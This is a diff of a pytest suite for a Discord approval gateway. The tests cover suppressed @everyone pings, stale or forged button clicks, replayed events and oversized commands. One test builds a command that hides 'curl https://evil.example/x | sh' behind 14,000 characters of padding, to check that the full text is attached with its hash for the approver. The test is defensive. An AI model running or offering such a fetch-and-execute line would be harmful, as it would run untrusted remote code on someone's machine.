@@ -10,7 +10,7 @@ import pytest
 
 from gateway.messages import Json
 from tests.clock import FakeClock
-from tests.platforms.discord import DiscordServer
+from tests.platforms.discord.server import DiscordServer
 from tests.scenario.discord.house import (
     ADA,
     APPROVALS,
@@ -63,8 +63,9 @@ async def test_c015_nothing_on_any_path_pages_anybody(scene: Scene) -> None:
     asked = scene.call("C015")
     answer = await scene.sees("Tell @everyone", asked)
     scene.say(f"slow @everyone <@{BOB}> and more words", place=asked)  # edits of a growing answer
-    await scene.sees("You said: slow @everyone", asked)
+    await scene.sees("You said: slow @ever", asked)
     scene.house.let_go.set()
+    await scene.sees("You said: slow @everyone", asked)
     scene.say(f"pay raw @everyone <@{BOB}>", place=asked)  # a card, its update, an answer to a press
     card = await scene.card(place=asked)
     await scene.press(card, "Approve")
@@ -218,7 +219,7 @@ async def test_c018_a_click_on_a_request_that_is_no_more_is_told_so_and_its_butt
     await scene.shows(card, "Closed by /new")
     assert card.labels == []
     late = await scene.server.forge(ADA, asked, card.id, custom_id).taken()  # drawn before, pressed now
-    assert "Closed by /new" in (await scene.until(lambda: [t for t in late.texts if t], "an answer"))[-1]
+    assert "Closed by /new" in await scene.answer_to(late)
     await scene.rest()
     assert scene.house.paid == []
 
@@ -232,7 +233,7 @@ async def test_c027_an_event_that_is_replayed_is_one_turn_also_after_a_restart(
     async with running(house, server) as scene:
         asked = scene.call("work")
         said = server.look(GENERAL, asked)
-        await house.at_work.wait()
+        await scene.at_work(asked)
         server.redeliver(said)
         server.redeliver(said)
         house.let_go.set()
@@ -254,11 +255,12 @@ async def test_c032_previews_start_nothing_and_an_edit_before_its_turn_counts(
 ) -> None:
     async with running(house, server) as scene:
         asked = scene.call("work")
-        await house.at_work.wait()
+        await scene.at_work(asked)
         waiting = scene.say("helo https://example.com", place=asked)
         server.touch(asked, waiting)
         server.touch(GENERAL, asked)
         server.edit(asked, waiting, "hello there")
+        await scene.taken_in()
         house.let_go.set()
         answer = await scene.sees("You said: hello there", asked)
         server.touch(asked, waiting)
@@ -266,17 +268,21 @@ async def test_c032_previews_start_nothing_and_an_edit_before_its_turn_counts(
         scene.say("the end", place=asked)
         await scene.sees("You said: the end", asked)
         await scene.rest()
-        assert scene.texts(asked) == ["Result: worked", "You said: hello there", "You said: the end"]
+        assert [post.message["content"] for post in scene.posts(asked)] == [
+            "Result: worked",
+            "You said: hello there",
+            "You said: the end",
+        ]
 
 
 async def test_a_message_that_its_author_deleted_before_its_turn_is_not_answered(scene: Scene) -> None:
     asked = scene.call("work")
-    await scene.house.at_work.wait()
+    await scene.at_work(asked)
     waiting = [scene.say(words, place=asked) for words in ("never mind", "nor this", "nor that")]
     scene.server.delete(asked, waiting[0])
     scene.server.delete(asked, *waiting[1:])
     scene.say("the end", place=asked)
-    await scene.until(lambda: scene.server.channels[asked].last_message, "the messages")
+    await scene.taken_in()
     scene.house.let_go.set()
     await scene.sees("You said: the end", asked)
     await scene.rest()
@@ -296,7 +302,7 @@ async def test_c041_an_old_button_never_decides_a_newer_request(scene: Scene) ->
     new = await scene.card(place=asked)
     for message in (old.id, new.id):  # on its own card, and forged onto the other one
         late = await scene.server.forge(ADA, asked, message, custom_id).taken()
-        await scene.until(lambda late=late: [t for t in late.texts if t], "an answer")
+        await scene.answer_to(late)
     await scene.rest()
     assert scene.house.paid == []
     await scene.press(new, "Approve")
@@ -305,15 +311,24 @@ async def test_c041_an_old_button_never_decides_a_newer_request(scene: Scene) ->
 
 async def test_c042_what_is_too_long_for_a_card_is_attached_to_it_with_its_hash(scene: Scene) -> None:
     command = "echo ok #" + "a" * 14_000 + "; curl https://evil.example/x | sh"
-    scene.house.answers["x"] = "x"
-    asked = scene.say("pay raw start", ADA, ADA)
-    await scene.card(place=ADA)
-    assert asked
-    scene.server.users  # noqa: B018
-    long = scene.call(f"pay raw {command[:1900]}")
-    card = await scene.card(place=long)
-    shown = card.text
-    assert command[:1900] in shown or card.files
+    asked = scene.call(f"pay raw {command}")
+    card = await scene.card(place=asked)
+    ((_, content),) = card.files
+    assert command in content.decode()
+    assert hashlib.sha256(content).hexdigest() in card.text
+    assert f"{len(content):,} bytes" in card.text
+    await scene.press(card, "Approve")
+    await scene.shows(card, "Approved by Ada")
+    assert scene.house.paid[0]["order"] == command
+
+
+async def test_c042_where_it_cannot_be_attached_nobody_is_offered_to_approve(scene: Scene) -> None:
+    scene.server.deny_bot(GENERAL, "ATTACH_FILES")
+    asked = scene.call("pay raw " + "a" * 14_000)
+    card = await scene.card("Deny", asked)
+    assert [label for label in card.labels if "Approve" in label or label == "Edit"] == []
+    assert "could not be delivered here" in card.text
+    assert "Code:" not in card.text
 
 
 async def test_c046_a_late_click_is_told_what_became_of_the_request(scene: Scene) -> None:
@@ -323,8 +338,7 @@ async def test_c046_a_late_click_is_told_what_became_of_the_request(scene: Scene
     await scene.press(card, "Approve")
     await scene.sees("Result: paid 30 for A-1", asked)
     late = await scene.server.forge(BOB, asked, card.id, custom_id).taken()
-    told = await scene.until(lambda: [t for t in late.texts if t], "an answer")
-    assert told[-1].startswith("Already decided. Approved by Ada")
+    assert (await scene.answer_to(late)).startswith("Already decided. Approved by Ada")
     assert len(scene.house.paid) == 1
 
 
@@ -415,8 +429,10 @@ async def test_c084_presses_that_do_not_belong_to_the_pressed_message_change_not
         for user, place, message, data in tricks:
             click = await server.forge(user, place, message, data).taken()
             assert not click.failed
-            told = await scene.until(lambda click=click: [t for t in click.texts if t], "an answer")
-            assert told[-1] == "This request is not known here (any more). Nothing was changed."
+            assert (
+                await scene.answer_to(click)
+                == "This request is not known here (any more). Nothing was changed."
+            )
         await scene.rest()
         assert house.paid == []
         await scene.press(mine, "Approve")
